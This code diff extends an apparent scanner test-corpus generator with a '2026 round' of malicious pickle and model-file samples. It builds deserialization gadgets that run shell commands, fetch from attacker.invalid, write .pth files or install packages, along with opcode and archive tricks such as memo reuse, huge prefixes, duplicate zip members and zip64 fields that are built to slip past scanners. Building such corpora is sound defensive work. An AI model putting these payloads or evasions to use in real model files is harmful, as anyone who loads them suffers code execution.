@@ -458,6 +458,170 @@ def build():
     attack("gzip-zip-appended.gz", gzip.compress(b"weights\n", mtime=0) + torch_zip(evil), "a gzip with a zip appended")
     attack("nemo-xz.nemo", tar({"model_config.yaml": b"name: x\n", "model_weights.ckpt": torch_zip(evil)}, "w:xz"), "NeMo tar.xz with a checkpoint")
 
+    round_2026(evil)
+
+
+def joblib_array_header(dtype, shape):
+    """A joblib NumpyArrayWrapper (joblib 1.x) announcing an array of `dtype` and `shape`; its bytes follow it."""
+    p = P(2).g("joblib.numpy_pickle", "NumpyArrayWrapper").raw(b")\x81").raw(b"}").raw(b"(")
+    p.s("subclass").g("numpy", "ndarray").s("shape").raw(b"(")
+    for n in shape:
+        p.i(n)
+    p.raw(b"t").s("order").s("C").s("dtype").g("numpy", "dtype").mark().s(dtype).raw(b"\x89\x88").tup().reduce()
+    p.raw(b"}b").s("allow_mmap").raw(b"\x88").s("numpy_array_alignment_bytes").i(16).raw(b"ub")
+    return p.bytes()
+
+
+def zip_with_duplicate(first, second):
+    """Two members named archive/data.pkl: zipfile's name table keeps the last."""
+    buf = io.BytesIO()
+    with warnings_off(), zipfile.ZipFile(buf, "w") as z:
+        z.writestr(zip_member("archive/data.pkl"), first)
+        z.writestr(zip_member("archive/data.pkl"), second)
+        z.writestr(zip_member("archive/version"), "3\n")
+    return buf.getvalue()
+
+
+class warnings_off:
+    def __enter__(self):
+        import warnings
+        self._w = warnings.catch_warnings()
+        self._w.__enter__()
+        warnings.simplefilter("ignore")
+
+    def __exit__(self, *exc):
+        self._w.__exit__(*exc)
+
+
+def round_2026(evil):
+    """The 2026 round: gadgets and tricks the corpus above does not cover."""
+    unlisted = ("_aix_support", "_read_cmd_output")
+    src = "2026 round"
+    # Allowlisted library pickle helpers that call one of their arguments.
+    attack("numpy-randomstate-ctor.pkl", P(2).g("numpy.random._pickle", "__randomstate_ctor").mark().s(CMD).g(*unlisted).tup().reduce().stop().bytes(),
+           f"{src}: numpy __randomstate_ctor(name, ctor) calls ctor(name) (numpy/random/_pickle.py)")
+    attack("numpy-generator-ctor.pkl", P(4).g("numpy.random._pickle", "__generator_ctor").mark().s(CMD).g("os", "system").tup().reduce().stop().bytes(),
+           f"{src}: numpy __generator_ctor calls its bit_generator_ctor argument")
+    attack("numpy-bitgen-ctor-class.pkl", P(4).g("numpy.random._pickle", "__bit_generator_ctor").mark().g("test.support", "TestFailed").tup().reduce().stop().bytes(),
+           f"{src}: numpy 2 __bit_generator_ctor instantiates any class it is given")
+    attack("numpy-bitgen-ctor-computed.pkl", P(4).g("numpy.random._pickle", "__bit_generator_ctor").mark().g("builtins", "getattr").mark().g("os", "path")
+           .s("os").tup().reduce().tup().reduce().stop().bytes(), f"{src}: __bit_generator_ctor of a value computed at load time")
+    attack("sklearn-newobj-unlisted.pkl", P(2).g("sklearn.neighbors._ball_tree", "newObj").mark().g("test.support", "TestFailed").tup().reduce().stop().bytes(),
+           f"{src}: scikit-learn newObj(cls) runs cls.__new__ of an unlisted class")
+    attack("pandas-new-index-unlisted.pkl", P(2).g("pandas.core.indexes.base", "_new_Index").mark().g("logging.config", "BaseConfigurator").raw(b"}").tup().reduce().stop().bytes(),
+           f"{src}: pandas _new_Index(cls, state) builds an unlisted class")
+    attack("mareconstruct-unlisted.pkl", P(2).g("numpy.ma.core", "_mareconstruct").mark().g("test.support", "TestFailed").g("numpy", "ndarray").mark().i(0).tup()
+           .s("b").tup().reduce().stop().bytes(), f"{src}: numpy.ma _mareconstruct(subtype, ...) calls subtype.__new__")
+    # Helpers that run commands, evaluate code, write files, import modules or load another pickle.
+    gadgets = [
+        ("idlelib.calltip", "get_entity", [PY], "GHSA-2025 class: idlelib.calltip.get_entity evaluates its argument"),
+        ("doctest", "debug_script", [PY], "doctest.debug_script executes its source"),
+        ("bdb", "Bdb.run", [lambda p: p.call("bdb", "Bdb"), PY], "bdb.Bdb.run executes a statement"),
+        ("pdb", "run", [PY], "pdb.run executes a statement"),
+        ("profile", "run", [PY], "profile.run executes a statement"),
+        ("logging.config", "fileConfig", ["/tmp/evil.ini"], "logging.config.fileConfig evaluates handler arguments"),
+        ("logging.config", "dictConfig", [{"version": 1, "root": {"()": "os.system"}}], "logging.config.dictConfig imports and calls factories"),
+        ("site", "addsitedir", ["/tmp/evil"], "site.addsitedir executes .pth files"),
+        ("importlib", "import_module", ["evil"], "imports any module"),
+        ("runpy", "run_path", ["/tmp/evil.py"], "runs a Python file"),
+        ("runpy", "run_module", ["evil"], "runs a module"),
+        ("zipimport", "zipimporter", ["/tmp/evil.zip"], "imports from a zip"),
+        ("ctypes.util", "find_library", ["c"], "runs gcc/ldconfig in a subprocess"),
+        ("_posixsubprocess", "fork_exec", [["sh"]], "the C helper behind subprocess"),
+        ("multiprocessing.util", "spawnv_passfds", ["/bin/sh", ["sh", "-c", CMD], []], "executes a program"),
+        ("shelve", "open", ["/tmp/evil.db"], "opens a shelf: loads pickles from it"),
+        ("_pickle", "loads", [b"\x80\x04."], "the C pickle module"),
+        ("dill", "loads", [b"\x80\x04."], "dill loads another pickle"),
+        ("cloudpickle", "loads", [b"\x80\x04."], "cloudpickle loads another pickle"),
+        ("joblib.numpy_pickle", "load", ["/tmp/evil.joblib"], "joblib loads another pickle"),
+        ("numpy.lib.npyio", "load", ["/tmp/evil.npy", None, True], "np.load with allow_pickle=True"),
+        ("pandas.io.pickle", "read_pickle", ["https://attacker.invalid/x.pkl"], "pandas downloads and unpickles"),
+        ("torch.hub", "load", ["attacker/repo", "model"], "torch.hub.load runs the repository's hubconf.py"),
+        ("torch.hub", "download_url_to_file", ["https://attacker.invalid/x", "/tmp/x"], "downloads a file"),
+        ("torch.jit", "load", ["/tmp/evil.pt"], "loads TorchScript code"),
+        ("torch.utils.cpp_extension", "load_inline", ["evil", "int x;"], "compiles and loads a C++ extension"),
+        ("numpy.testing._private.extbuild", "build_and_import_extension", ["evil", []], "compiles and imports C code"),
+        ("numpy.distutils.exec_command", "exec_command", [CMD], "runs a shell command"),
+        ("setuptools.sandbox", "run_setup", ["/tmp/setup.py"], "runs a setup script"),
+        ("pip._internal.cli.main", "main", [["install", "evil"]], "installs a package"),
+        ("pandas.io.clipboards", "read_clipboard", [], "runs xclip/xsel/pbpaste"),
+        ("urllib.request", "urlretrieve", ["https://attacker.invalid/x", "/tmp/x"], "downloads and writes a file"),
+        ("smtplib", "SMTP", ["attacker.invalid"], "network connection"),
+        ("operator", "attrgetter", ["system"], "attrgetter builds a getter that is then called"),
+        ("functools", "reduce", [lambda p: p.g(*unlisted), [CMD]], "functools.reduce calls its function"),
+        ("builtins", "setattr", [lambda p: p.g("os", "path"), "join", lambda p: p.g("os", "system")], "setattr on a module"),
+    ]
+    for module, name, args, source in gadgets:
+        slug = f"{module}.{name}".replace(".", "-").replace("_", "").lower()[:60]
+        attack(f"r26-{slug}.pkl", simple(module, name, *args), f"{src}: {source}")
+    attack("r26-list-map-gadget.pkl", P(2).g("builtins", "list").mark().g("builtins", "map").mark().g(*unlisted).raw(b"(").s(CMD).raw(b"l").tup().reduce()
+           .tup().reduce().stop().bytes(), f"{src}: list(map(gadget, [cmd])): an allowlisted type iterates a lazy call")
+    attack("r26-partial-setstate.pkl", P(2).g("functools", "partial").mark().g("builtins", "list").tup().reduce()
+           .mark().g(*unlisted).mark().s(CMD).tup().raw(b"}").none().tup().raw(b"b").mark().tup().reduce().stop().bytes(),
+           f"{src}: BUILD rewrites an allowed partial's function through __setstate__, then calls it")
+    # Opcode tricks.
+    attack("r26-ext2.pkl", P(2).raw(b"\x83\x01\x02").mark().s(CMD).tup().reduce().stop().bytes(), f"{src}: EXT2 copyreg extension code")
+    attack("r26-ext4.pkl", P(2).raw(b"\x84\x01\x02\x03\x04").mark().s(CMD).tup().reduce().stop().bytes(), f"{src}: EXT4 copyreg extension code")
+    attack("r26-memo-overwrite.pkl", P(2).g("builtins", "list").raw(b"q\x01").raw(b"0").g(*unlisted).raw(b"q\x01").raw(b"0").raw(b"h\x01")
+           .mark().s(CMD).tup().reduce().stop().bytes(), f"{src}: memo slot reused: the later global wins")
+    attack("r26-memoize-long-binget.pkl", P(4).g(*unlisted).raw(b"\x94").raw(b"0").raw(b"j\x00\x00\x00\x00").mark().s(CMD).tup().reduce().stop().bytes(),
+           f"{src}: MEMOIZE then LONG_BINGET of an unlisted global")
+    attack("r26-dup-global.pkl", P(2).g(*unlisted).raw(b"2").raw(b"0").mark().s(CMD).tup().reduce().stop().bytes(), f"{src}: DUP of a global")
+    attack("r26-stack-global-memo-strings.pkl", P(4).s("_aix_support").raw(b"\x94").s("_read_cmd_output").raw(b"\x94").raw(b"00")
+           .raw(b"h\x00h\x01\x93").mark().s(CMD).tup().reduce().stop().bytes(), f"{src}: STACK_GLOBAL of names fetched from the memo")
+    attack("r26-persid-gadget.pkl", P(2).mark().s("module").g("os", "system").s(CMD).tup().raw(b"Q").stop().bytes(),
+           f"{src}: BINPERSID tuple naming a command runner (torch's persistent_load returns it)")
+    attack("r26-persid-proto0.pkl", b"Pstorage\n0" + simple("os", "system", CMD, proto=0), f"{src}: PERSID then a protocol 0 payload")
+    attack("r26-next-buffer-loads.pkl", P(5).g("pickle", "loads").mark().raw(b"\x97").tup().reduce().stop().bytes(), f"{src}: pickle.loads of an out-of-band buffer (NEXT_BUFFER)")
+    attack("r26-readonly-buffer-load-from-bytes.pkl", P(5).g("torch.storage", "_load_from_bytes").mark().raw(b"\x97\x98").tup().reduce().stop().bytes(),
+           f"{src}: torch _load_from_bytes of a READONLY_BUFFER")
+    inner = simple(*unlisted, CMD, proto=4)
+    attack("r26-nested-bytearray8.pkl", P(5).g("pickle", "loads").mark().raw(b"\x96" + struct.pack("<Q", len(inner)) + inner).tup().reduce().stop().bytes(),
+           f"{src}: nested pickle in a BYTEARRAY8")
+    attack("r26-inst-dotted.p0.pkl", b"(cpathlib\nPath\n(S'/tmp/evil.pth'\ntRS'import os'\nipathlib\nPath.write_text\n.", f"{src}: INST with a dotted name")
+    attack("r26-none-pop-prefix.pkl", P(2).raw(b"N0" * 60000).call(*unlisted, CMD).stop().bytes(), f"{src}: 120 KB of NONE/POP before the payload")
+    attack("r26-mark-prefix.p0.pkl", b"(" * 70000 + b"1" + simple(*unlisted, CMD, proto=0), f"{src}: 70 000 MARKs (and POP_MARK) before a protocol 0 payload")
+    attack("r26-unicode-prefix.p0.pkl", b"V" + b"\\u0041" * 20000 + b"\n0" + simple(*unlisted, CMD, proto=0), f"{src}: protocol 0 unicode string of 120 KB before the payload")
+    attack("r26-long-line-5mb.p0.pkl.gz", gzip.compress(b"S'" + b"A" * (5 << 20) + b"'\n0" + simple(*unlisted, CMD, proto=0), mtime=0),
+           f"{src}: a 5 MB protocol 0 string line before the payload, past every window a reader takes (gzip keeps the file small)")
+    attack("r26-frame-overlong.pkl", b"\x80\x04\x95" + struct.pack("<Q", 1 << 40) + P(4).call(*unlisted, CMD).stop().bytes()[2:], f"{src}: FRAME announcing more bytes than the file holds")
+    # Containers.
+    attack("r26-torch-zip-duplicate.pt", zip_with_duplicate(P(2).raw(b"}").stop().bytes(), evil), f"{src}: two data.pkl members; zipfile loads the last")
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", allowZip64=True) as z:
+        with z.open(zip_member("archive/data.pkl"), "w", force_zip64=True) as f:
+            f.write(evil)
+        z.writestr(zip_member("archive/version"), "3\n")
+    attack("r26-torch-zip64.pt", buf.getvalue(), f"{src}: torch zip whose data.pkl has zip64 extra fields")
+    commented = torch_zip(evil)
+    comment = b"PK\x05\x06" + b"\0" * 18
+    attack("r26-zip-eocd-in-comment.pt", commented[:-2] + struct.pack("<H", len(comment)) + comment, f"{src}: an end-of-archive record inside the archive comment")
+    attack("r26-joblib-zero-array-then-payload.joblib", P(2).raw(b"}").raw(b"(").s("w").raw(joblib_array_header("<f8", [0])[2:]).raw(b"\x82\x01" if False else b"")
+           .s("x").call(*unlisted, CMD).raw(b"u").stop().bytes(), f"{src}: joblib array announced empty: the bytes after it are opcodes again")
+    gz = bytearray(gzip.compress(evil, mtime=0))
+    gz[3] = 0x1C  # FEXTRA | FNAME | FCOMMENT
+    header = bytes(gz[:10]) + struct.pack("<H", 4) + b"ab\0\0" + b"model.pkl\0" + b"a comment\0"
+    attack("r26-gzip-header-fields.gz", header + bytes(gz[10:]), f"{src}: gzip member with extra, name and comment fields")
+    pax = io.BytesIO()
+    with tarfile.open(fileobj=pax, mode="w", format=tarfile.PAX_FORMAT) as t:
+        for n, d in {"sys_info": P(2).raw(b"}").stop().bytes(), "pickle": evil, "storages": P(2).raw(b"]").stop().bytes(),
+                     "tensors": P(2).raw(b"]").stop().bytes()}.items():
+            info = tarfile.TarInfo(n)
+            info.size = len(d)
+            info.pax_headers = {"comment": "x" * 600}
+            t.addfile(info, io.BytesIO(d))
+    attack("r26-torch-legacy-tar-pax.tar", pax.getvalue(), f"{src}: legacy torch tar with PAX headers")
+    attack("r26-nemo-bz2.nemo", tar({"model_config.yaml": b"name: x\n", "model_weights.ckpt": torch_zip(evil)}, "w:bz2"), f"{src}: NeMo tar.bz2 with a checkpoint")
+    attack("r26-npz-zip64.npz", (lambda b: (b, b.getvalue())[1])(_npz64(npy_object(evil))), f"{src}: npz member with zip64 extra fields")
+
+
+def _npz64(member):
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
+        with z.open(zip_member("a.npy"), "w", force_zip64=True) as f:
+            f.write(member)
+    return buf
+
 
 def main():
     build()
